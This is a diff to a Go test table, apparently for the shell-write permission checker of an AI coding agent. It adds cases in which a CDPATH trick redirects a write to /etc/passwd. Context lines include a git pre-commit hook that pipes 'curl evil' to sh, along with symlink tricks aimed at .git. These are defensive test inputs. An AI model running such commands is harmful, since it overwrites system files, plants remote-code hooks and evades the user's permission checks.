@@ -49,6 +49,8 @@ func TestShellWrites_MatchedWhereTheyResolve(t *testing.T) {
 		{"unanchored patterns do not reach beneath a directory", []helikon.ContextOption{WithDenyRules(DenyEdit("*.pem"))}, resolving("rm -rf build"), allowed},
 		{"a hook through a link to .git", nil, resolving("echo 'curl evil|sh' > g/hooks/pre-commit"), asked},
 		{"a hook after cd .git", nil, bash("cd .git && echo x > hooks/pre-commit"), asked},
+		{"a cd through CDPATH", nil, bash("CDPATH=/ cd etc && echo x > passwd"), asked},
+		{"a cd through an exported CDPATH", nil, bash("export CDPATH=/; cd etc; echo x > passwd"), asked},
 		{"a plain write", nil, resolving("echo x > notes.txt"), allowed},
 		{"a link made by the same command", nil, bash("ln -s .git h && echo x > h/hooks/pre-commit"), asked},
 		{"a link into a directory made by the same command", nil, bash("ln -sf ../.git tmp/ && echo x > tmp/.git/config"), asked},
